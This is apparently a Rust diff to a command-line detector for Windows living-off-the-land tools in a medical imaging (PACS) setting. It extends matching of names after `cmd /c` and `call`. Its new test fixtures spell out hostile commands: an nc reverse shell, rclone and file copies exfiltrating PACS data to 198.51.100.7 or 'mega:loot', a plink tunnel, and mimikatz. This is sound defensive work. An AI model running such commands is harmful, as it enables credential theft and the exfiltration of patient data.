@@ -804,7 +804,7 @@ fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
                 // line's form, never prose's (`CMD /CBD`).
                 let apart = part.get(1).is_none_or(|&b| is_switch_separator(b));
                 return runs_command(command, chance_bytes)
-                    || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Plain));
+                    || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd));
             }
             from += part.len() + 1;
         }
@@ -837,18 +837,28 @@ const PLAIN_NAME_MIN_IN_BINARY: usize = 3;
 /// `echo-planar`, which no Windows has). In binary values the name has at least
 /// [`PLAIN_NAME_MIN_IN_BINARY`] letters.
 fn hands_a_plain_name(command: &[u8], chance_bytes: bool, rule: NameRule) -> bool {
-    if !command.first().is_some_and(|&b| is_switch_separator(b)) {
-        return false;
-    }
-    let from = command
-        .iter()
-        .position(|&b| !is_switch_separator(b))
-        .unwrap_or(command.len());
-    let len = command[from..]
-        .iter()
-        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
-        .unwrap_or(command.len() - from);
-    let word = &command[from..from + len];
+    let mut command = command;
+    let (word, len, from) = loop {
+        if !command.first().is_some_and(|&b| is_switch_separator(b)) {
+            return false;
+        }
+        let from = command
+            .iter()
+            .position(|&b| !is_switch_separator(b))
+            .unwrap_or(command.len());
+        let len = command[from..]
+            .iter()
+            .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
+            .unwrap_or(command.len() - from);
+        let word = &command[from..from + len];
+        // `cmd /c call X` runs X (review rv41-screen M2): a loop, not a recursion, as
+        // a line may repeat `call` thousands of times.
+        if rule == NameRule::Cmd && word.eq_ignore_ascii_case(b"call") {
+            command = &command[from + len..];
+            continue;
+        }
+        break (word, len, from);
+    };
     // Past the quote closing a quoted name (`/c "payload"`).
     let rest = &command[from + len..];
     let rest = &rest[rest.iter().take_while(|&&b| b == b'"').count()..];
@@ -857,6 +867,19 @@ fn hands_a_plain_name(command: &[u8], chance_bytes: bool, rule: NameRule) -> boo
     // the word `aspirin`.
     if known_tool(word) {
         return true;
+    }
+    if rule == NameRule::Cmd {
+        // Session 40's rule (review rv41-screen M2: `cmd /c python evil.py`, `cmd /c date
+        // 01-01-2000`, `cmd /c type x > \\host\s\a.dcm` were clean): a name apart from
+        // `/c` is a command line's form whatever follows it; cmd's commands that only
+        // print count with a redirection or an operator ([`runs_command`]).
+        let lower = word.to_ascii_lowercase();
+        return word.first().is_some_and(u8::is_ascii_alphabetic)
+            && word
+                .iter()
+                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
+            && !QUIET_INTERNAL.contains(&lower.as_slice())
+            && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY);
     }
     rule == NameRule::Plain
         && plain_program(word)
@@ -868,12 +891,14 @@ fn hands_a_plain_name(command: &[u8], chance_bytes: bool, rule: NameRule) -> boo
 
 /// Which plain names [`hands_a_plain_name`] counts: after a bare `start` (and `at`'s
 /// time) any word is prose's as often (`Start heparin`), so only a [`known_tool`]; after
-/// `cmd /c`, an empty title or a switch of `start` (a command line's form) a name cmd.exe
-/// looks for along the PATH.
+/// an empty title or a switch of `start` a name cmd.exe looks for along the PATH, alone
+/// or with a command's argument; after `cmd /c` (`Cmd`) any such name, whatever its
+/// arguments, but cmd's commands that only print, and `call X` is X.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum NameRule {
     Known,
     Plain,
+    Cmd,
 }
 
 /// Whether `word` is a plain name cmd.exe looks for as a program's: a letter, then
@@ -9801,6 +9826,39 @@ mod lolbin_tests {
             &["copy C:\\PACS\\a(1).dcm \\\\198.51.100.7\\s(2)"],
             &[false],
         );
+    }
+
+    /// Review rv41-screen (M2): `cmd /c NAME args` runs NAME whatever its arguments, as
+    /// session 40 read it (a name after `/c` apart from it is a command line's form,
+    /// never prose's); `call X` is X. Only cmd's commands that print (`echo`, `ver`, …)
+    /// count with a redirection or an operator alone.
+    #[test]
+    fn a_plain_name_after_cmd_c_counts_whatever_its_arguments() {
+        assert_alerts(
+            &[
+                "cmd /c rclone copy C:\\PACS mega:loot",
+                "cmd /c nc 198.51.100.7 4444 -e cmd.exe",
+                "cmd /c plink root@198.51.100.7 -R 3389:127.0.0.1:3389",
+                "cmd /c python evil.py",
+                "cmd /c winrar a -hpSECRET loot.rar C:\\PACS",
+                "cmd /c mimikatz exit",
+                "cmd /c mimikatz 1",
+                "cmd /c \"mimikatz foo\"",
+                "cmd /c mimikatz x 2>nul",
+                "cmd /c call mimikatz",
+                "cmd /c call evil foo",
+                "cmd /c type C:\\PACS\\a.dcm > \\\\198.51.100.7\\s\\a.dcm",
+                "cmd /c date 01-01-2000",
+                "( cmd /c mimikatz )",
+            ],
+            &[false, true],
+        );
+        assert_clean(&[
+            "cmd /c echo of CBD seen",
+            "CMD /C ECHO normal",
+            "CMD /CBD dilated",
+            "cmd /c ver",
+        ]);
     }
 
     /// Every ambiguous tool is judged by a rule of its arguments: its switches, its
